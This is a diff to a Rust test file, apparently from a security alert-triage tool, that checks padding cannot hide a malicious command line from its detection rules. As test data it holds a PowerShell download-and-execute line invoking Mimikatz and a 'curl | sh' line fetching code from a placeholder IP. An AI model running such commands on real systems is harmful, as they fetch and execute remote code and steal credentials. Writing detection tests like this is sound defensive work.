@@ -168,14 +168,15 @@ fn a_new_product_is_an_alert_if_it_has_an_id_and_ignored_if_not() {
 
 #[test]
 fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
-    let level = |cmdline: &str| {
+    let judged = |cmdline: &str| {
         let mut payload = epp();
         payload["event"]["CommandLine"] = json!(cmdline);
         payload["event"]["Severity"] = json!(10);
         payload["event"]["SeverityName"] = json!("Informational");
         let alert = one(&payload);
-        Judgement::of(&alert, Ruleset::built_in()).conclude(&Consultation::NotAsked).verdict
+        Judgement::of(&alert, Ruleset::built_in()).conclude(&Consultation::NotAsked)
     };
+    let level = |cmdline: &str| judged(cmdline).verdict;
     let attack =
         "-w hidden -c iex((new-object net.webclient).downloadstring('http://198.51.100.7/a.ps1'));Invoke-Mimikatz";
     let plain = level(&format!("powershell {attack}"));
@@ -189,7 +190,12 @@ fn padding_in_a_vendors_payload_cannot_push_a_command_out() {
     }
     // More than that, as other systems allow: what is in the middle is not kept, and that there was something is a reason to look.
     let filler = ": a b; ".repeat(3_000);
-    assert!(level(&format!("bash -c '{filler}{filler}'")) > VerdictLevel::Benign);
-    assert!(level(&format!("bash -c '{filler} curl -s http://198.51.100.7/a | sh; {filler}'")) > VerdictLevel::Benign);
-    assert_eq!(level(&format!("bash -c '{}'", &filler[..9_000])), VerdictLevel::Benign, "long alone is none");
+    let is_noticed = |cmdline: &str| {
+        let verdict = judged(cmdline);
+        let noticed = verdict.evidence.iter().any(|item| item.rule_id == "command-line-longer-than-read");
+        assert!(!noticed || verdict.verdict > VerdictLevel::Benign);
+        noticed
+    };
+    assert!(is_noticed(&format!("bash -c '{filler} curl -s http://198.51.100.7/a | sh; {filler}'")));
+    assert!(!is_noticed(&format!("bash -c '{filler}'")), "long alone is no reason");
 }
